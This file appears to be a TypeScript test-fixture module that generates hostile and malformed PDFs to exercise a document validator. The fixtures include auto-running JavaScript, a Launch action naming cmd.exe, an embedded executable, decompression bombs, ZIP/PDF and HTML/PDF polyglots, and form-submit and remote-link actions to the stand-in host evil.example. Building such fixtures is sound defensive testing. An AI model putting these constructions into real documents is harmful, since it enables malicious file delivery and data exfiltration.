import { deflateSync } from 'node:zlib'
import { buildPdf } from '../pdf.ts'
import type { HostileFile } from './hostile-file.ts'
import { makeZip } from './make-zip.ts'

type Parts = {
  /** Added to the catalog, to the page, and as further objects from number 10 on. */
  catalog?: string
  page?: string
  objects?: (string | Buffer)[]
  box?: string
  trailer?: string
}

/** A PDF of one page written by hand, without a table of its objects: every reader rebuilds that. */
function handPdf({ catalog = '', page = '', objects = [], box = '0 0 500 500', trailer = '' }: Parts = {}): Buffer {
  const plain = [
    `1 0 obj <</Type/Catalog/Pages 2 0 R ${catalog}>> endobj`,
    '2 0 obj <</Type/Pages/Count 1/Kids[3 0 R]>> endobj',
    `3 0 obj <</Type/Page/Parent 2 0 R/MediaBox[${box}]/Contents 4 0 R ${page}>> endobj`,
    '4 0 obj <</Length 16>> stream\n0 0 250 250 re f\nendstream endobj',
  ]
  const all = [...plain, ...objects.map((object, nth) => numbered(object, nth + 10))]
  const lines = [
    '%PDF-1.7\n',
    ...all.flatMap((object) => [object, '\n']),
    `trailer <</Root 1 0 R ${trailer}>>\n%%EOF\n`,
  ]
  return Buffer.concat(lines.map((line) => Buffer.from(line)))
}

function numbered(object: string | Buffer, number: number): Buffer {
  return Buffer.concat([Buffer.from(`${number} 0 obj `), Buffer.from(object), Buffer.from(' endobj')])
}

function stream(dictionary: string, content: Buffer): Buffer {
  return Buffer.concat([
    Buffer.from(`<<${dictionary}/Length ${content.length}>> stream\n`),
    content,
    Buffer.from('\nendstream'),
  ])
}

/** Objects packed out of sight, as every modern PDF packs them. */
function packedObject(
  object: string,
  { filter = '/Filter/FlateDecode', type = '/Type/ObjStm', wrongSum = false } = {},
) {
  const packed = deflateSync(Buffer.from(`50 0 ${object}`))
  if (wrongSum) packed.writeUInt32BE(1, packed.length - 4)
  return stream(`${type}/N 1/First 5${filter}`, packed)
}

const script = '<</Type/Action/S/JavaScript/JS(app.alert\\(1\\))>>'
/** A page whose one picture is 189 kB in the file and 192 MB when read whole. */
function flood(): Buffer {
  const side = 8_000
  const pixels = deflateSync(Buffer.alloc(side * side * 3, 200), { level: 9 })
  const picture = `/Type/XObject/Subtype/Image/Width ${side}/Height ${side}/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode`
  const paint = '500 0 0 500 0 0 cm /I Do'
  return handPdf({
    page: '/Resources<</XObject<</I 10 0 R>>>>/Contents 11 0 R',
    objects: [stream(picture, pixels), `<</Length ${paint.length}>> stream\n${paint}\nendstream`],
  })
}

const joined = (...parts: (Buffer | string)[]): Buffer => Buffer.concat(parts.map((part) => Buffer.from(part)))
const archive = (): Buffer => makeZip([{ name: 'run.js', bytes: Buffer.from('alert(1)') }])

/** An archive whose closing comment is the end of a PDF: unpackers and readers both take the file. */
function archiveWithin(): Buffer {
  const zip = archive()
  const tail = Buffer.from('\ntrailer <</Root 1 0 R>>\n%%EOF\n')
  zip.writeUInt16LE(tail.length, zip.length - 2)
  const pdf = handPdf()
  const body = pdf.subarray(0, pdf.lastIndexOf('trailer'))
  return joined(body, zip, tail)
}

const file = (name: string, make: HostileFile['make'], called = `${name}.pdf`): HostileFile => ({ name, called, make })

export const pdfFiles: HostileFile[] = [
  file('plain', () => buildPdf({ pages: 1 })),
  file('password', () => buildPdf({ password: 'secret' })),
  file('owner-password', () => buildPdf({ ownerPassword: 'secret' })),
  file('cut-off', async () => (await buildPdf()).subarray(0, 30_000)),
  file('without-end', () => handPdf().subarray(0, -7)),
  file('name-only', () => Buffer.from('%PDF-1.7\nnothing\n%%EOF')),
  file('pages-500', () => buildPdf({ pages: 500, size: [50, 50] })),
  file('pages-501', () => buildPdf({ pages: 501, size: [50, 50] })),
  file('pages-none', () =>
    joined(
      '%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj <</Type/Pages/Count 0/Kids[]>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n',
    ),
  ),
  file('pages-said-but-none', () =>
    joined(
      '%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj <</Type/Pages/Count 400/Kids[]>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n',
    ),
  ),
  file('page-tree-loop', () =>
    joined(
      '%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n2 0 obj <</Type/Pages/Count 2/Kids[2 0 R 2 0 R]/Parent 2 0 R>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n',
    ),
  ),
  file('page-of-200-megapixels', () => handPdf({ box: '0 0 14400 14500' })),
  file('page-endless', () => buildPdf({ pages: 1, size: [50, 14_000] })),
  file('page-of-no-number', () => handPdf({ box: '0 0 NaN 1e400' })),
  file('picture-flood', flood),
  file('script-on-opening', () => handPdf({ catalog: `/OpenAction ${script}` })),
  file('script-with-written-out-letters', () => handPdf({ catalog: '/OpenAction <</S/J#61v#61Script/JS(1)>>' })),
  file('script-in-packed-object', () => handPdf({ catalog: '/OpenAction 50 0 R', objects: [packedObject(script)] })),
  file('script-in-packed-object-of-wrong-sum', () =>
    handPdf({ catalog: '/OpenAction 50 0 R', objects: [packedObject(script, { wrongSum: true })] }),
  ),
  file('script-in-packed-object-without-type', () =>
    handPdf({ catalog: '/OpenAction 50 0 R', objects: [packedObject(script, { type: '' })] }),
  ),
  file('packed-object-behind-filters', () =>
    handPdf({
      objects: [
        stream(
          '/Type/ObjStm/N 1/First 5/Filter[/ASCIIHexDecode/FlateDecode]',
          Buffer.from(deflateSync(Buffer.from(`50 0 ${script}`)).toString('hex') + '>'),
        ),
      ],
    }),
  ),
  file('packed-object-of-hidden-type', () =>
    handPdf({ objects: ['/ObjStm', packedObject(script, { type: '/Type 10 0 R' })] }),
  ),
  file('packed-objects-bomb', () =>
    handPdf({
      objects: [
        stream(
          '/Type/ObjStm/N 1/First 5/Filter/FlateDecode',
          deflateSync(Buffer.alloc(100_000_000, '1 '), { level: 9 }),
        ),
      ],
    }),
  ),
  file('launch', () => handPdf({ catalog: '/OpenAction <</S/Launch/F(cmd.exe)>>' })),
  file('embedded-program', () =>
    handPdf({
      catalog: '/Names<</EmbeddedFiles<</Names[(a.exe) 10 0 R]>>>>',
      objects: ['<</Type/Filespec/F(a.exe)/EF<</F 11 0 R>>>>', stream('/Type/EmbeddedFile', Buffer.from('MZ program'))],
    }),
  ),
  file('xfa-form', () =>
    handPdf({ catalog: '/AcroForm<</XFA 10 0 R/Fields[]>>', objects: [stream('', Buffer.from('<xdp:xdp/>'))] }),
  ),
  file('remote-go-to', () =>
    handPdf({
      page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(\\\\\\\\evil.example\\\\a.pdf)/D[0/Fit]>>>>]',
    }),
  ),
  file('submit-form', () => handPdf({ catalog: '/OpenAction <</S/SubmitForm/F(https://evil.example/)>>' })),
  file('link-to-a-page', () =>
    handPdf({ page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://doi.org/10.1000/1)>>>>]' }),
  ),
  file('with-archive-after', () => joined(handPdf(), archive())),
  file('with-archive-within', archiveWithin),
  file('with-program-after', () => joined(handPdf(), 'MZ\x90 program')),
  file('page-before', () => joined('<html><script>alert(1)</script>\n', handPdf())),
  file('page-in-the-header', () => joined('%PDF-1.7\n<html><script>alert(1)</script>\n', handPdf())),
]
